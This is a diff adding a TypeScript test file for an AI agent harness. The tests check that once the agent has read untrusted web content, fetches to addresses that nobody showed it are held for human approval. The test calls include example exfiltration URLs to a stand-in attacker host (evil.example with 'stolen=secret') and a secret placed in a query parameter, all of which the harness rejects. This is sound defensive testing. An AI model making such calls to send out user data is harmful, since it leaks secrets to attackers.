@@ -1,0 +1,68 @@
+// After text from outside was read, an address that nobody showed is asked about: it could carry something out.
+import { expect, test } from 'vitest';
+import { ownTool, useAgentBench, type AgentBench } from '../agent/agent-bench.ts';
+
+const open = useAgentBench();
+
+const page = 'Read on at https://pages.example/next?p=2. Or see (https://pages.example/more).';
+
+async function start(): Promise<{ bench: AgentBench; fetched: string[] }> {
+  const fetched: string[] = [];
+  const read = ({ url, actions = [] }: any): unknown => {
+    fetched.push(url ?? actions[0].url);
+    return { ok: true, output: page, isUntrusted: true };
+  };
+  const bench = await open((registry) => registry.add('tool', ownTool('fetch', read, { effects: ['read', 'network'] })));
+  return { bench, fetched };
+}
+
+/** Runs a turn that fetches these one after the other, and answers which addresses were asked about. */
+async function fetchAll(bench: AgentBench, text: string, calls: readonly object[]): Promise<string[]> {
+  bench.model.push(...calls.map((args) => ({ toolCalls: [{ name: 'fetch', args }] })), { text: 'done' });
+  const from = bench.stream.events.length;
+  const { turnId } = (await bench.send(text)).body;
+  const asked: string[] = [];
+  const answer = async (): Promise<void> => {
+    for (const { approvalId, args, reason } of (await bench.call('GET', '/api/pending')).body.approvals) {
+      expect(reason).toMatch(/text from outside.*carry something out/);
+      asked.push(args.url ?? args.actions[0].url);
+      await bench.call('POST', '/api/approve', { approvalId, decision: 'reject' });
+    }
+  };
+  await expect
+    .poll(async () => {
+      await answer();
+      return bench.stream.events.slice(from).some((event) => event.kind === 'turn_end' && event['turnId'] === turnId);
+    })
+    .toBe(true);
+  return asked;
+}
+
+test('what the user wrote, and what was read, may be followed; what the model made up is asked about', async () => {
+  const { bench, fetched } = await start();
+  const asked = await fetchAll(bench, 'look at https://start.example/a and https://start.example/b', [
+    { url: 'https://start.example/a' },
+    { url: 'https://start.example/b#part' },
+    { url: 'https://pages.example/next?p=2' },
+    { url: 'https://pages.example/more' },
+    { url: 'https://evil.example/?stolen=secret' },
+    { url: 'https://pages.example/next?p=secret' },
+    { actions: [{ op: 'goto', url: 'https://evil.example/secret' }] },
+  ]);
+  expect(asked).toEqual(['https://evil.example/?stolen=secret', 'https://pages.example/next?p=secret', 'https://evil.example/secret']);
+  expect(fetched).toHaveLength(4);
+});
+
+test('before anything was read, any address may be fetched', async () => {
+  const { bench, fetched } = await start();
+  expect(await fetchAll(bench, 'look something up', [{ url: 'https://anywhere.example/' }])).toEqual([]);
+  expect(fetched).toEqual(['https://anywhere.example/']);
+});
+
+test('it holds in later turns, and in a chat that was forgotten it begins anew', async () => {
+  const { bench } = await start();
+  await fetchAll(bench, 'go', [{ url: 'https://start.example/' }]);
+  expect(await fetchAll(bench, 'go on', [{ url: 'https://evil.example/' }])).toEqual(['https://evil.example/']);
+  await bench.call('POST', '/api/session/reset', { mode: 'soft' });
+  expect(await fetchAll(bench, 'go', [{ url: 'https://other.example/' }])).toEqual([]);
+});
